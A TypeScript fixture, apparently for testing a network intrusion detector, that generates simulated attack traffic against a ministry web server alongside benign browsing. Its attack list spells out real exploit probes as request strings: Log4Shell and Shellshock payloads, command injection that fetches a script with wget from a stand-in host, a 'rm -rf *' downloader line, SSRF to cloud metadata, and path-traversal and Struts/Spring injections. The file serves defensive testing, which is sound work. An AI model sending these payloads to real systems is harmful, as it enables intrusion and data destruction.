// Flaws of web servers and devices tried from the Internet, and a web site that is only visited.
import { search } from '../../laws/conversations/ldap.ts';
import { kexInit } from '../../laws/conversations/ssh.ts';
import { spoken as tls } from '../../laws/conversations/tls.ts';
import { element } from '../../support/packets/ber.ts';
import { certificate } from '../../support/packets/certificate.ts';
import { part, Scene, type Take } from './scene.ts';
import { type Asked, encrypt, fetch } from './web.ts';

const STRANGER = '203.0.113.50';
const SURVEY = '203.0.113.60';
const SERVER = '10.20.0.80';
const DESK = '10.20.1.12';
const OUTSIDE = '198.51.100.80';

const SCANNED = kexInit(
  ...[
    'curve25519-sha256',
    'ssh-ed25519',
    'aes256-ctr',
    'aes256-ctr',
    'hmac-sha2-256',
    'hmac-sha2-256',
    'none',
    'none',
  ],
);
const NOT_FOUND: Asked = { status: '404 Not Found' };
/** Who tries, and what: one of each kind of flaw. */
const TRIED: readonly (readonly [url: string, asked?: Asked])[] = [
  ['/', { agent: ['$', '{jndi:ldap://203.0.113.50/a}'].join('') }],
  ['/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%2Fa%7D'],
  ['/cgi-bin/status', { agent: '() { :;}; /bin/bash -c id' }],
  ['/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input', { method: 'POST', body: 'x' }],
  ['/ping?host=127.0.0.1;wget+http://203.0.113.50/x.sh'],
  ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E'],
  ['/fetch?url=http://169.254.169.254/latest/meta-data/'],
  ['/uploads/shell.php?cmd=id'],
  ['/autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgE'],
  ['/GponForm/diag_Form?images/', { method: 'POST', body: 'XWebPageName=diag' }],
  ['/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.50/mozi.a'],
  ['/form', { method: 'POST', body: 'x', fields: [] }],
  ['/form?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
  ['/index.action?redirect:%25%7B%28%23a%3D@java.lang.Runtime@getRuntime%28%29%29%7D'],
  ['/dana-na/../dana/html5acc/guacamole/../../../../etc/hosts?/dana/html5acc/guacamole/'],
  ['/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'],
  ['/wls-wsat/CoordinatorPortType', { method: 'POST', body: '<x/>' }],
  ['/_ignition/execute-solution', { method: 'POST', body: '{}' }],
];

export function attack(): Take {
  const scene = new Scene();
  for (const [url, asked = {}] of TRIED)
    fetch(scene, STRANGER, SERVER, url, { ...NOT_FOUND, host: 'www.ministry.go.example', ...asked });
  for (let i = 0; i < 70; i++) fetch(scene, STRANGER, SERVER, `/backup${i}.zip`, NOT_FOUND);
  fetch(scene, SURVEY, SERVER, '/', {
    agent: 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  });
  fetch(scene, STRANGER, SERVER, '198.51.100.80:443', { method: 'CONNECT', status: '200 OK', page: '' });
  // The server does as Log4j bids it, and fetches the class.
  scene.tcp(SERVER, STRANGER, 389, [
    'client',
    search(1, 'a', 0, element(0x87, 'objectClass'), 'javaCodeBase'),
  ]);
  fetch(scene, SERVER, STRANGER, '/Exploit.class', {
    host: STRANGER,
    agent: 'Java/1.8.0_181',
    answer: ['Server: SimpleHTTP/0.6 Python/3.11.2', 'Content-Type: application/java-vm'],
  });
  fetch(scene, STRANGER, SERVER, '/x.jsp/', { method: 'PUT', body: '<% %>', status: '201 Created' });
  scene.talk(STRANGER, SERVER, part(tls, 6));
  scene.tcp(
    STRANGER,
    '10.20.0.22',
    22,
    ['server', 'SSH-2.0-OpenSSH_9.2\r\n'],
    ['client', 'SSH-2.0-Nmap-SSH2-Hostkey\r\n'],
    ['client', SCANNED],
    ['server', SCANNED],
  );
  fetch(scene, STRANGER, SERVER, '/', { method: 'PROPFIND', status: '207 Multi-Status' });
  fetch(scene, DESK, OUTSIDE, '/invoice.iso', {
    host: 'files.example',
    answer: ['Content-Type: application/x-iso9660-image'],
  });
  fetch(scene, DESK, OUTSIDE, '/order.docm', {
    host: 'files.example',
    answer: ['Content-Type: application/vnd.ms-word'],
  });
  const forged = certificate({
    subject: 'updates.example',
    issuer: 'Example CA',
    hosts: ['updates.example'],
    ownCurve: true,
  });
  encrypt(scene, DESK, OUTSIDE, { name: 'updates.example', certificate: forged });
  return {
    scene,
    about: {
      kind: 'attack',
      title: 'A stranger tries the flaws of many products at one web server; a desktop fetches bait',
      origin:
        'An outside host sends the requests with which known flaws of web software, gateways and home routers are ' +
        'tried, looks for seventy backups, uses the server as a proxy; another takes stock of the Internet; pc12 ' +
        'fetches a disk image and a document with macros over plain HTTP, and meets a certificate with a curve of its own.',
      attacker: [STRANGER, SURVEY, OUTSIDE],
      victims: [SERVER, DESK],
    },
  };
}

export function normal(): Take {
  const scene = new Scene();
  const pages = [
    '/',
    '/news?id=7',
    '/search?q=union+jack&lang=en',
    '/forms/apply.php?step=2',
    '/img/logo.png',
  ];
  for (let visitor = 0; visitor < 6; visitor++) {
    for (const page of pages)
      fetch(scene, `198.51.100.${120 + visitor}`, SERVER, page, {
        host: 'www.ministry.go.example',
        fields: ['Referer: http://www.ministry.go.example/', 'Accept-Language: ja'],
      });
    fetch(scene, `198.51.100.${120 + visitor}`, SERVER, '/favicon.ico', {
      ...NOT_FOUND,
      host: 'www.ministry.go.example',
    });
    scene.wait(8);
  }
  fetch(scene, DESK, OUTSIDE, '/report.docx', { host: 'files.example' });
  fetch(scene, DESK, OUTSIDE, '/login.php', { host: 'files.example', method: 'POST', body: 'name=taro' });
  return {
    scene,
    about: {
      kind: 'benign',
      title: 'A public web site that is visited, and a document that is fetched',
      origin:
        'Six visitors look at pages of the ministry’s web server with a browser; pc12 fetches a document.',
    },
  };
}
